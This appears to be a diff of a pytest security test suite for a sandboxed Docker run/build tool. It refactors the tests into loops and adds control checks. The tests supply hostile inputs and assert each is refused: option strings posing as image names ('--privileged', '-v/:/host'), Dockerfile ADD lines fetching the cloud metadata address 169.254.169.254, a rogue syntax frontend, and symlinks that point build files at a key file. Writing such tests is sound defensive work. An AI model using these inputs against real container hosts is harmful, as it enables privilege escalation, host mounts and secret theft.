@@ -56,12 +56,11 @@ def plain(words: tuple[str, ...], ctx: ToolContext, *options: str, script: str) 
     return done.stdout + done.stderr
 
 
-@pytest.mark.parametrize(
-    "image", ["--privileged", "-v/:/host", "--volume=/:/host", "built/--privileged", "a b", "-", ""]
-)
-def test_attack_an_option_as_an_image(ctx: ToolContext, image: str) -> None:
-    result = call(ctx, "docker_run", image=image, command=["built/one", "/bin/busybox", "id"])
-    assert not result.ok and ("no image's name" in result.text or "Exit code 125" in result.text), result.text
+def test_attack_an_option_as_an_image(ctx: ToolContext) -> None:
+    for image in ("--privileged", "-v/:/host", "--volume=/:/host", "built/--privileged", "a b", "-", ""):
+        said = call(ctx, "docker_run", image=image, command=["built/one", "/bin/busybox", "id"])
+        assert not said.ok and ("no image's name" in said.text or "Exit code 125" in said.text), image
+    assert call(ctx, "docker_run", image="built/one", command=["/bin/busybox", "id"]).ok  # the control
 
 
 def test_attack_options_behind_the_image(ctx: ToolContext, words: tuple[str, ...], tmp_path: Path) -> None:
@@ -155,23 +154,23 @@ def test_attack_another_runs_container(ctx: ToolContext, words: tuple[str, ...])
         subprocess.run([*words, "rm", "--force", name], capture_output=True)
 
 
-@pytest.mark.parametrize(
-    "line",
-    [
-        "ADD http://169.254.169.254/latest /x",
-        "add https://x.test/a /x",
-        "AD\\\nD http://x.test/a /x",
-        "ONBUILD ADD http://x.test/a /x",
-        "# syntax=evil/frontend",
-        "#  escape = `",
-    ],
-)
-def test_attack_have_the_engine_fetch_something(ctx: ToolContext, line: str) -> None:
-    (ctx.root / "Dockerfile").write_text(
-        f"{line}\n{DOCKERFILE}" if line.startswith("#") else f"{DOCKERFILE}{line}\n"
-    )
-    result = call(ctx, "docker_build", name="two")
-    assert not result.ok and ("ADD is not allowed" in result.text or "Directives" in result.text), result.text
+FETCHING = [
+    "ADD http://169.254.169.254/latest /x",
+    "add https://x.test/a /x",
+    "AD\\\nD http://x.test/a /x",
+    "ONBUILD ADD http://x.test/a /x",
+    "# syntax=evil/frontend",
+    "#  escape = `",
+]
+
+
+def test_attack_have_the_engine_fetch_something(ctx: ToolContext) -> None:
+    for line in FETCHING:
+        (ctx.root / "Dockerfile").write_text(
+            f"{line}\n{DOCKERFILE}" if line.startswith("#") else f"{DOCKERFILE}{line}\n"
+        )
+        said = call(ctx, "docker_build", name="two")
+        assert not said.ok and ("ADD is not allowed" in said.text or "Directives" in said.text), line
 
 
 def test_attack_build_on_an_image_from_somewhere(ctx: ToolContext) -> None:
@@ -180,18 +179,19 @@ def test_attack_build_on_an_image_from_somewhere(ctx: ToolContext) -> None:
     assert not result.ok and "localhost:1/evil" in result.text and "refused" not in result.text
 
 
-@pytest.mark.parametrize("name", ["Dockerfile", "secret", ".dockerignore"])
-def test_attack_a_link_in_the_folder_that_is_built(ctx: ToolContext, tmp_path: Path, name: str) -> None:
+def test_attack_a_link_in_the_folder_that_is_built(ctx: ToolContext, tmp_path: Path) -> None:
     (tmp_path / "app-key.pem").write_text("FROM canary\n")
-    (ctx.root / name).unlink(missing_ok=True)
-    (ctx.root / name).symlink_to(tmp_path / "app-key.pem")
-    assert "canary" in (ctx.root / name).read_text()  # the control
-    if name == "secret":
-        (ctx.root / "Dockerfile").write_text(
-            f'{DOCKERFILE}COPY secret /secret\nRUN ["/bin/busybox", "cat", "/secret"]\n'
-        )
-    result = call(ctx, "docker_build", name="two")
-    assert not result.ok and "canary" not in result.text, result.text
+    for name in ("Dockerfile", "secret", ".dockerignore"):
+        copied = f'{DOCKERFILE}COPY secret /secret\nRUN ["/bin/busybox", "cat", "/secret"]\n'
+        (ctx.root / "Dockerfile").unlink()
+        (ctx.root / "Dockerfile").write_text(copied if name == "secret" else DOCKERFILE)
+        (ctx.root / name).unlink(missing_ok=True)
+        (ctx.root / name).symlink_to(tmp_path / "app-key.pem")
+        assert "canary" in (ctx.root / name).read_text()  # the control
+        said = call(ctx, "docker_build", name="two")
+        assert not said.ok and "canary" not in said.text, (name, said.text)
+        (ctx.root / name).unlink()
+        (ctx.root / "Dockerfile").write_text(DOCKERFILE)
 
 
 def test_attack_build_with_the_network_or_the_host(ctx: ToolContext) -> None:
